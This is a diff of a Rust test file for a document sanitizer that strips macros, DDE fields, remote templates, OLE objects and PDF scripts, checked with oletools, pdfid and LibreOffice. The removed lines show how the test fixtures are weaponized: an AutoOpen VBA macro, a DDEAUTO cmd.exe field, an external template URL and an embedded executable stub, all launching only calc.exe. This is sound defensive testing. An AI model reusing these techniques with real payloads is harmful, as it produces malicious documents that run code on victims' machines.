@@ -3,158 +3,12 @@
 //! checked by oletools (olevba, msodde) and opened again by LibreOffice,
 //! whose PDF export must still hold the text. Every case has a clean twin.
 
-use std::io::{Cursor, Read, Write};
 use std::path::{Path, PathBuf};
-use std::process::Command;
 
 use mdcore::sanitize::{SanitizeError, SanitizeOptions, sanitize};
 
+use crate::cdr::*;
 use crate::util::*;
-
-const MACRO: &str =
-    "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n    Shell \"calc.exe\"\r\nEnd Sub\r\n";
-const TEXT: &str = "Quarterly figures, marker 4711: revenue rose by nine percent.";
-
-/// Runs a verifier from `support/cdr-tools.sh` (oletools, pdfid, pikepdf,
-/// installed into target/cdr-venv on first use); its stdout and exit code.
-fn verifier(program: &str, args: &[&str]) -> (String, i32) {
-    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/support/cdr-tools.sh");
-    let out = Command::new("bash")
-        .arg(script)
-        .arg(program)
-        .args(args)
-        .output()
-        .expect("can not run tests/support/cdr-tools.sh");
-    let text =
-        String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr);
-    (text, out.status.code().unwrap_or(-1))
-}
-
-/// LibreOffice, headless, with a profile of its own in `dir` (parallel
-/// instances must not share one); `None` when it is not installed outside
-/// CI.
-fn soffice(dir: &Path, args: &[&str]) -> Option<()> {
-    let profile = format!("-env:UserInstallation=file://{}/lo-profile", dir.display());
-    let mut all = vec![profile.as_str(), "--headless", "--norestore"];
-    all.extend_from_slice(args);
-    tool(dir, "soffice", &all)
-}
-
-/// A document LibreOffice writes from plain text (`docx` from a `.txt`,
-/// `xlsx` from a `.csv`).
-fn libreoffice_document(dir: &Path, ext: &str, filter: &str) -> Option<Vec<u8>> {
-    let source = if ext.starts_with("xl") {
-        std::fs::write(dir.join("source.csv"), format!("\"{TEXT}\",7\n")).unwrap();
-        "source.csv"
-    } else {
-        std::fs::write(dir.join("source.txt"), format!("{TEXT}\n")).unwrap();
-        "source.txt"
-    };
-    let to = format!("{ext}:{filter}");
-    soffice(dir, &["--convert-to", &to, source])?;
-    Some(std::fs::read(dir.join(format!("source.{ext}"))).unwrap())
-}
-
-/// The text LibreOffice reads from a document, through a PDF export and
-/// pdftotext.
-fn text_of_document(dir: &Path, name: &str, data: &[u8]) -> String {
-    let sub = dir.join(format!("open-{name}"));
-    std::fs::create_dir_all(&sub).unwrap();
-    std::fs::write(sub.join(name), data).unwrap();
-    soffice(&sub, &["--convert-to", "pdf", name]).expect("LibreOffice is installed");
-    let stem = Path::new(name).file_stem().unwrap().to_str().unwrap();
-    let pdf = sub.join(format!("{stem}.pdf"));
-    assert!(pdf.exists(), "LibreOffice did not open {name}");
-    tool(&sub, "pdftotext", &[&format!("{stem}.pdf"), "out.txt"]).expect("pdftotext");
-    std::fs::read_to_string(sub.join("out.txt")).unwrap()
-}
-
-fn parts(zip: &[u8]) -> Vec<(String, Vec<u8>)> {
-    let mut z = zip::ZipArchive::new(Cursor::new(zip)).unwrap();
-    (0..z.len())
-        .map(|i| {
-            let mut f = z.by_index(i).unwrap();
-            let mut d = Vec::new();
-            f.read_to_end(&mut d).unwrap();
-            (f.name().unwrap().to_string(), d)
-        })
-        .collect()
-}
-
-fn zip_parts(parts: &[(String, Vec<u8>)]) -> Vec<u8> {
-    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
-    for (n, d) in parts {
-        w.start_file(n.as_str(), zip::write::SimpleFileOptions::default())
-            .unwrap();
-        w.write_all(d).unwrap();
-    }
-    w.finish().unwrap().into_inner()
-}
-
-fn edit(parts: &mut Vec<(String, Vec<u8>)>, name: &str, f: impl FnOnce(String) -> String) {
-    match parts.iter_mut().find(|(n, _)| n == name) {
-        Some((_, d)) => *d = f(String::from_utf8(d.clone()).unwrap()).into_bytes(),
-        None => parts.push((name.to_string(), f(String::new()).into_bytes())),
-    }
-}
-
-/// A `vbaProject.bin` holding one module, its `PROJECT` stream included.
-fn vba_bin(source: &str) -> Vec<u8> {
-    let project = vba_project("VBA", &[("Module1", source)]);
-    let mut streams: Vec<(&str, &[u8])> = project
-        .iter()
-        .map(|(n, d)| (n.as_str(), d.as_slice()))
-        .collect();
-    let text =
-        b"ID=\"{00000000-0000-0000-0000-000000000000}\"\r\nModule=Module1\r\nName=\"Project\"\r\n";
-    streams.push(("PROJECT", text));
-    ole2_of(&streams)
-}
-
-const REL: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
-
-/// A LibreOffice docx given a VBA project (as a docm), a DDEAUTO field
-/// split over two runs, and a remote template.
-fn weaponize_docx(docx: &[u8]) -> Vec<u8> {
-    let mut p = parts(docx);
-    p.push(("word/vbaProject.bin".into(), vba_bin(MACRO)));
-    edit(&mut p, "[Content_Types].xml", |s| {
-        s.replace(
-            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
-            "application/vnd.ms-word.document.macroEnabled.main+xml",
-        )
-        .replace(
-            "</Types>",
-            "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>",
-        )
-    });
-    edit(&mut p, "word/_rels/document.xml.rels", |s| {
-        s.replace(
-            "</Relationships>",
-            "<Relationship Id=\"rIdVba\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/></Relationships>",
-        )
-    });
-    edit(&mut p, "word/_rels/settings.xml.rels", |_| {
-        format!(
-            "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rIdT\" Type=\"{REL}/attachedTemplate\" Target=\"http://templates.example.net/t.dotm\" TargetMode=\"External\"/></Relationships>"
-        )
-    });
-    edit(&mut p, "word/settings.xml", |s| {
-        let at = s.find("<w:settings").unwrap();
-        let end = at + s[at..].find('>').unwrap() + 1;
-        format!(
-            "{}<w:attachedTemplate xmlns:r=\"{REL}\" r:id=\"rIdT\"/>{}",
-            &s[..end],
-            &s[end..]
-        )
-    });
-    edit(&mut p, "word/document.xml", |s| {
-        let field = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\"> DDE</w:instrText></w:r><w:r><w:instrText xml:space=\"preserve\">AUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>field result</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
-        let at = s.find("<w:body>").unwrap() + "<w:body>".len();
-        format!("{}{field}{}", &s[..at], &s[at..])
-    });
-    zip_parts(&p)
-}
 
 fn tmp() -> tempfile::TempDir {
     tempfile::tempdir().unwrap()
@@ -169,10 +23,10 @@ fn write(dir: &Path, name: &str, data: &[u8]) -> PathBuf {
 #[test]
 fn a_docm_with_an_autoopen_macro_a_dde_field_and_a_remote_template_comes_out_a_clean_docx() {
     let dir = tmp();
-    let Some(docx) = libreoffice_document(dir.path(), "docx", "MS Word 2007 XML") else {
+    let Some(docm) = docm_sample(dir.path()) else {
         return;
     };
-    let docm = weaponize_docx(&docx);
+    let docx = std::fs::read(dir.path().join("source.docx")).unwrap();
     let bad = write(dir.path(), "bad.docm", &docm);
 
     // The verifiers see what was added: the fixture is what it claims.
@@ -362,37 +216,13 @@ fn what_can_not_be_rebuilt_is_an_error_never_the_original() {
     assert_eq!(back, parts(&docx_document()));
 }
 
-/// An OLE 1.0 embedded object (as `\objdata` carries it): a Package
-/// holding a small executable.
-fn ole1_package_hex() -> String {
-    let mut d = Vec::new();
-    d.extend_from_slice(&0x0501u32.to_le_bytes()); // OLEVersion
-    d.extend_from_slice(&2u32.to_le_bytes()); // FormatID: embedded
-    d.extend_from_slice(&8u32.to_le_bytes());
-    d.extend_from_slice(b"Package\0");
-    d.extend_from_slice(&0u32.to_le_bytes()); // TopicName
-    d.extend_from_slice(&0u32.to_le_bytes()); // ItemName
-    let payload = b"MZ\x90\x00 this program cannot be run in DOS mode";
-    d.extend_from_slice(&(payload.len() as u32).to_le_bytes());
-    d.extend_from_slice(payload);
-    d.iter().map(|b| format!("{b:02x}")).collect()
-}
-
 #[test]
 fn an_rtf_with_an_ole_object_and_a_dde_field_keeps_its_text_and_loses_both() {
     let dir = tmp();
-    std::fs::write(dir.path().join("source.txt"), format!("{TEXT}\n")).unwrap();
-    if soffice(dir.path(), &["--convert-to", "rtf", "source.txt"]).is_none() {
+    let Some(bad) = rtf_sample(dir.path()) else {
         return;
-    }
+    };
     let rtf = std::fs::read_to_string(dir.path().join("source.rtf")).unwrap();
-    let end = rtf.rfind('}').unwrap();
-    let bad = format!(
-        "{}\\par {{\\object\\objemb{{\\*\\objclass Package}}\\objw100\\objh100{{\\*\\objdata {}}}{{\\result {{\\rtlch object picture}}}}}}\\par {{\\field{{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"}}{{\\fldrslt field result}}}}{}",
-        &rtf[..end],
-        ole1_package_hex(),
-        &rtf[end..]
-    );
     let bad_path = write(dir.path(), "bad.rtf", bad.as_bytes());
     let (out, _) = verifier("rtfobj", &[bad_path.to_str().unwrap()]);
     assert!(
@@ -457,5 +287,131 @@ fn a_copy_sanitizes_again_with_nothing_left_to_remove() {
         let second = sanitize(&first.data, name, &SanitizeOptions::new()).unwrap();
         assert!(second.details.is_empty(), "{name}: {:?}", second.details);
         assert_eq!(second.converted_to, first.converted_to);
+    }
+}
+
+#[test]
+fn a_pdf_loses_its_scripts_actions_and_embedded_exe_and_keeps_its_text_and_links() {
+    let dir = tmp();
+    let Some(armed) = pdf_sample(dir.path()) else {
+        return;
+    };
+    write(dir.path(), "bad.pdf", &armed);
+    // The same document with its objects in object streams, and encrypted
+    // with an empty user password (AES-256), made by qpdf.
+    tool(
+        dir.path(),
+        "qpdf",
+        &["--object-streams=generate", "bad.pdf", "bad-objstm.pdf"],
+    )
+    .unwrap();
+    tool(
+        dir.path(),
+        "qpdf",
+        &[
+            "--encrypt",
+            "",
+            "owner",
+            "256",
+            "--",
+            "bad.pdf",
+            "bad-aes.pdf",
+        ],
+    )
+    .unwrap();
+    let before = pdfid_counts(&dir.path().join("bad.pdf"));
+    for (key, n) in &before {
+        assert!(*n > 0, "pdfid sees no {key} in the armed PDF: {before:?}");
+    }
+
+    for name in ["bad.pdf", "bad-objstm.pdf", "bad-aes.pdf"] {
+        let data = std::fs::read(dir.path().join(name)).unwrap();
+        let s = sanitize(&data, name, &SanitizeOptions::new()).unwrap();
+        assert_eq!(s.converted_to, "pdf");
+        let kinds: Vec<&str> = s.details.iter().map(|d| d.object_name.as_str()).collect();
+        for k in [
+            "JavaScript",
+            "OpenAction",
+            "Additional actions",
+            "Embedded file",
+            "SubmitForm action",
+        ] {
+            assert!(
+                kinds.contains(&k),
+                "{name}: {k} not reported: {:?}",
+                s.details
+            );
+        }
+        let clean = format!("clean-{name}");
+        write(dir.path(), &clean, &s.data);
+        let after = pdfid_counts(&dir.path().join(&clean));
+        assert!(
+            after.iter().all(|(_, n)| *n == 0),
+            "{name}: pdfid on the copy: {after:?}"
+        );
+        qpdf_check(dir.path(), &clean);
+        let text = pdftotext(dir.path(), &clean);
+        assert!(text.contains("marker 4711"), "{name}: {text}");
+        // The web link stays; the submitting one is gone.
+        let (out, code) = verifier(
+            "python",
+            &[
+                "-c",
+                "import sys, pikepdf\np = pikepdf.open(sys.argv[1])\nfor a in p.pages[0].get('/Annots', []):\n    print(a.get('/A', {}).get('/S'), a.get('/A', {}).get('/URI'))\nprint('files', len(p.attachments))",
+                dir.path().join(&clean).to_str().unwrap(),
+            ],
+        );
+        assert_eq!(code, 0, "{out}");
+        assert!(
+            out.contains("/URI https://example.com/report"),
+            "{name}: {out}"
+        );
+        assert!(!out.contains("SubmitForm"), "{name}: {out}");
+        assert!(out.contains("files 0"), "{name}: {out}");
+    }
+
+    // Kept on request: the embedded file stays, the scripts still go.
+    let data = std::fs::read(dir.path().join("bad.pdf")).unwrap();
+    let s = sanitize(
+        &data,
+        "bad.pdf",
+        &SanitizeOptions::new().remove_embedded_files(false),
+    )
+    .unwrap();
+    write(dir.path(), "kept.pdf", &s.data);
+    let after = pdfid_counts(&dir.path().join("kept.pdf"));
+    assert_eq!(
+        after.last().unwrap(),
+        &("/EmbeddedFile".to_string(), 1),
+        "{after:?}"
+    );
+    assert!(after.iter().take(5).all(|(_, n)| *n == 0), "{after:?}");
+    qpdf_check(dir.path(), "kept.pdf");
+
+    // The clean twin: nothing reported, still valid, same text.
+    let data = std::fs::read(dir.path().join("source.pdf")).unwrap();
+    let s = sanitize(&data, "source.pdf", &SanitizeOptions::new()).unwrap();
+    assert!(s.details.is_empty(), "{:?}", s.details);
+    write(dir.path(), "twin.pdf", &s.data);
+    qpdf_check(dir.path(), "twin.pdf");
+    assert!(pdftotext(dir.path(), "twin.pdf").contains("marker 4711"));
+    // And the copy sanitizes again to itself.
+    let again = sanitize(&s.data, "twin.pdf", &SanitizeOptions::new()).unwrap();
+    assert!(again.data == s.data, "a second pass changed the copy");
+}
+
+#[test]
+fn a_pdf_that_can_not_be_rebuilt_is_an_error() {
+    for (data, why) in [
+        (&b"%PDF-1.7\nnothing here\n%%EOF\n"[..], "no PDF objects"),
+        (
+            &b"%PDF-1.7\n1 0 obj\n<</Type/Page>>\nendobj\ntrailer\n<</Root 9 0 R>>\n%%EOF\n"[..],
+            "catalog",
+        ),
+    ] {
+        match sanitize(data, "x.pdf", &SanitizeOptions::new()) {
+            Err(SanitizeError::Failed(e)) => assert!(e.contains(why), "{e}"),
+            other => panic!("{other:?}"),
+        }
     }
 }
